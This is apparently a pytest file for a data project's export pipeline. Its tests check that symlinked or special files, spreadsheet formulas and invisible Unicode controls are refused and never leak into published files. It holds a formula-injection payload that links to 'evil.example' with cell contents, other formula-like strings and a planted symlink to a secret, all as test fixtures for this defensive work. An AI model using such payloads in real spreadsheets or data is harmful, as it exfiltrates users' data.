"""What a contributor puts under data/ cannot leak a file, run in a spreadsheet or lie in text.

- Symbolic links and special files under data/ are refused by validation (one line: file, what
  to do) and again by whoever copies data for readers, even when validation is skipped because
  the process was told these data already validated (the worst case of a forged trust).
- Every string that reaches the workbook is text, never a formula: schema descriptions,
  vocabulary labels, the about sheet; a formula-like cell refuses the CSV and the zip.
- Bidirectional controls and zero-width characters are refused with file, row and column.
"""

import json
import os
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
from openpyxl import load_workbook

from exobone.data.real_files import NotARealFile
from exobone.data.validate import VALIDATED, data_digest
from exobone.data.version import Release
from exobone.publish import exports
from exobone.sphinxext import downloads
from tests.test_validate import only_problem, set_cell

SECRET_TEXT = "secret-token-of-the-build-machine"


def _add_resource(data_dir: Path, name: str, rel: str) -> None:
    """Register ``rel`` as a one-column, headerless resource (as the issue's reproduction did)."""
    (data_dir / "schemas" / f"{name}.schema.json").write_text(
        json.dumps({"fields": [{"name": "line", "type": "string"}]}), encoding="utf-8"
    )
    package = json.loads((data_dir / "datapackage.json").read_text(encoding="utf-8"))
    package["resources"].append(
        {
            "name": name,
            "path": rel,
            "schema": f"schemas/{name}.schema.json",
            "format": "csv",
            "encoding": "utf-8",
            "dialect": {"header": False},
        }
    )
    (data_dir / "datapackage.json").write_text(json.dumps(package, indent=2), encoding="utf-8")


@pytest.fixture(autouse=True)
def _no_trust_left_over():
    os.environ.pop(VALIDATED, None)
    yield
    os.environ.pop(VALIDATED, None)


def _forge_stamp(data_dir: Path) -> None:
    """The worst case: this process is told that exactly these data validated (what the
    pipeline tells the kernels it starts), so validation itself is skipped."""
    os.environ[VALIDATED] = data_digest(data_dir)


@pytest.fixture
def secret(tmp_path) -> Path:
    path = tmp_path / "outside" / "secret.csv"
    path.parent.mkdir()
    path.write_text(SECRET_TEXT + "\n", encoding="utf-8")
    return path


def test_a_symlinked_data_file_is_refused_with_one_line(data_copy, secret):
    (data_copy / "vocab" / "leak.csv").symlink_to(secret)
    _add_resource(data_copy, "leak", "vocab/leak.csv")
    line = only_problem(data_copy)
    assert line.startswith("data/vocab/leak.csv: a symbolic link (to ")
    assert "put the file itself here" in line


def test_a_symlinked_folder_and_a_fifo_are_refused(data_copy, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (data_copy / "extra").symlink_to(tmp_path / "elsewhere")
    os.mkfifo(data_copy / "vocab" / "pipe.csv")  # reading it would hang: it is never opened
    from tests.test_validate import problems

    link, fifo = problems(data_copy)
    assert link.startswith("data/extra: a symbolic link (to '/tmp")
    assert link.endswith("(cp --remove-destination TARGET LINK) or delete the link")
    assert fifo == "data/vocab/pipe.csv: a named pipe (FIFO), not a regular file; delete it"


def test_a_link_is_not_published_even_with_a_forged_stamp(data_copy, secret, tmp_path):
    (data_copy / "vocab" / "leak.csv").symlink_to(secret)
    _add_resource(data_copy, "leak", "vocab/leak.csv")
    _forge_stamp(data_copy)
    with pytest.raises(NotARealFile, match="data/vocab/leak.csv: a symbolic link"):
        exports.write_package_zip(tmp_path / "out.zip", data_copy)
    assert not (tmp_path / "out.zip").exists()
    site = tmp_path / "site"
    app = SimpleNamespace(
        srcdir=str(data_copy.parent),
        outdir=str(site),
        doctreedir=str(tmp_path / "dt"),
        builder=SimpleNamespace(format="html"),
    )
    with pytest.raises(NotARealFile):
        downloads.publish_data(app, None)
    published = [p for p in site.rglob("*") if p.is_file()] if site.exists() else []
    assert not [p for p in published if SECRET_TEXT in p.read_text("utf-8", errors="replace")]


def test_published_files_are_copies_and_a_link_planted_in_the_site_is_replaced(tmp_path):
    from exobone.data import paths

    site = tmp_path / "site"
    planted = tmp_path / "victim.txt"
    planted.write_text("keep me", encoding="utf-8")
    (site / "downloads").mkdir(parents=True)
    (site / "downloads" / exports.FLAT_CSV).symlink_to(planted)
    (site / "data").mkdir()
    (site / "data" / "datapackage.json").symlink_to(planted)
    app = SimpleNamespace(
        srcdir=str(paths.PROJECT_ROOT),
        outdir=str(site),
        doctreedir=str(tmp_path / "dt"),
        builder=SimpleNamespace(format="html"),
    )
    downloads.publish_data(app, None)
    assert planted.read_text(encoding="utf-8") == "keep me"
    links = [p for p in site.rglob("*") if p.is_symlink()]
    assert links == []
    assert (site / "data" / "vocab" / "cells.csv").read_bytes() == (
        paths.DATA_DIR / "vocab" / "cells.csv"
    ).read_bytes()


# --- every string that reaches a spreadsheet is inert -----------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"Click")'


def _formula_cells(xlsx: Path) -> list[str]:
    book = load_workbook(xlsx)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_a_formula_in_a_schema_description_reaches_the_workbook_as_text(data_copy, tmp_path):
    schema_path = data_copy / "schemas" / "findings.schema.json"
    schema = json.loads(schema_path.read_text(encoding="utf-8"))
    schema["fields"][-1]["description"] = HYPERLINK
    schema_path.write_text(json.dumps(schema, indent=2), encoding="utf-8")
    written = exports.write_exports(tmp_path / "out", data_copy)
    assert _formula_cells(written[exports.FLAT_XLSX]) == []
    book = load_workbook(written[exports.FLAT_XLSX])
    descriptions = [r[2] for r in book["data dictionary"].iter_rows(values_only=True)]
    assert HYPERLINK in descriptions


def test_the_workbook_writer_is_inert_by_itself():
    """Whatever reaches it (vocabulary labels, claims, about text): strings stay strings."""
    frame = pd.DataFrame(
        {"claim": [HYPERLINK, "=1+1", "+cmd", "@SUM(A1)", "-2", "plain"], "n": range(6)}
    )
    dictionary = pd.DataFrame({"column": ["claim"], "from": ["=x"], "description": [HYPERLINK]})
    out = Path(os.environ.get("TMPDIR", "/tmp")) / f"inert-{os.getpid()}.xlsx"
    try:
        exports.write_flat_xlsx(frame, dictionary, out, Release("1.0.0", "2026-12-06"))
        assert _formula_cells(out) == []
        values = [r[0] for r in load_workbook(out)["findings"].iter_rows(values_only=True)]
        assert values[1:] == [HYPERLINK, "=1+1", "+cmd", "@SUM(A1)", "-2", "plain"]
    finally:
        out.unlink(missing_ok=True)


def test_a_refused_formula_does_not_reach_the_exports_with_a_forged_stamp(data_copy, tmp_path):
    set_cell(data_copy, ("evidence", "findings.csv"), 2, "claim", HYPERLINK)
    _forge_stamp(data_copy)
    with pytest.raises(exports.ExportRefused, match=r"findings_flat.csv, row 2, column 'claim'"):
        exports.write_exports(tmp_path / "out", data_copy)
    with pytest.raises(exports.ExportRefused, match=r"data/evidence/findings.csv, row 2"):
        exports.write_package_zip(tmp_path / "out.zip", data_copy)
    written = list((tmp_path / "out").glob("*")) if (tmp_path / "out").exists() else []
    assert [p.name for p in written if not p.name.startswith(".")] == []


def test_the_shipped_exports_hold_no_formula(tmp_path):
    written = exports.write_exports(tmp_path)
    assert _formula_cells(written[exports.FLAT_XLSX]) == []
    with zipfile.ZipFile(written[exports.PACKAGE_ZIP]) as zf:
        assert all(not zf.getinfo(n).is_dir() for n in zf.namelist())


# --- text that reads other than it is ----------------------------------------------------


@pytest.mark.parametrize(
    ("value", "code", "kind"),
    [
        ("Reviewer \u202edetcejer\u202c", "U+202E", "bidirectional control"),
        ("Reviewer \u2067x\u2069", "U+2067", "bidirectional control"),
        ("Revie\u200bwer", "U+200B", "zero-width"),
        ("Reviewer\ufeff", "U+FEFF", "zero-width"),
        ("Reviewer \u200fA", "U+200F", "bidirectional control"),
    ],
)
def test_bidi_controls_and_zero_width_characters_are_refused(data_copy, value, code, kind):
    set_cell(data_copy, ("evidence", "findings.csv"), 2, "claim", value)
    line = only_problem(data_copy)
    assert line.startswith("data/evidence/findings.csv, row 2, column 'claim', value ")
    assert f"{kind} character {code}" in line
